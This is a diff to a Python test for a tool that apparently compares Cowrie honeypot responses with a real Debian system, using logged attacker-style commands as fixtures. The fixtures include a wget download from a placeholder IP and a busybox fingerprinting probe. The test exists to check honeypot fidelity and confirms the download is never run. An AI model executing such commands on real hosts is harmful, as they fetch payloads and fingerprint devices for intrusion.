@@ -394,11 +394,13 @@ def test_a_cowrie_beside_debian(cowrie: Ports, tmp_path: Path) -> None:
     endings: Sequence[tuple[str, int]] = (
         ("which ls", 5),
         ("wget http://203.0.113.9/x", 4),
+        ("/bin/busybox FFRFP", 3),
         ("w", 2),
     )
     lines = [
         {"eventid": "cowrie.sessionstats.summary", "schema": 1, "session": f"{n:06x}{m:06x}",
-         "message": "", "logged_in": True, "last_command": line, "last_command_template": line,
+         "message": "", "logged_in": True, "last_command": line,
+         "last_command_template": line.replace("FFRFP", "<applet>"),
          "sensor": "s", "start": f"2026-03-18T10:00:{m:02d}.{n:06d}Z"}
         for n, (line, count) in enumerate(endings) for m in range(count)
     ]  # fmt: skip
@@ -412,12 +414,17 @@ def test_a_cowrie_beside_debian(cowrie: Ports, tmp_path: Path) -> None:
     )  # fmt: skip
     assert said.status == 0, said.err
     rows = rows_of(said.out)
-    assert list(rows)[:2] == ["which ls", "w"]
-    assert [rows[line]["sessions"] for line in ("which ls", "w")] == [5, 2]
+    assert [(line, row["sessions"]) for line, row in rows.items()][:3] == [
+        ("which ls", 5),
+        ("/bin/busybox ZONESEC", 3),
+        ("w", 2),
+    ]
     assert "wget http://203.0.113.9/x" not in rows, "it was run nowhere"
     assert {check.example[0] for check in CHECKS if check.reads_only} <= rows.keys()
     assert rows["kill %1"]["reference"]["output"].endswith("no such job\n")
-    assert rows["uname -a"]["verdict"] if "uname -a" in rows else True
+    made_up = rows["/bin/busybox ZONESEC"]
+    assert made_up["honeypot"]["output"].split() == made_up["reference"]["output"].split()
+    assert made_up["reference"]["status"] == 127
     verdicts = {row["verdict"] for row in rows.values()}
     assert {"same", "differs"} <= verdicts
     assert html.read_text().count("<details") == len(rows)
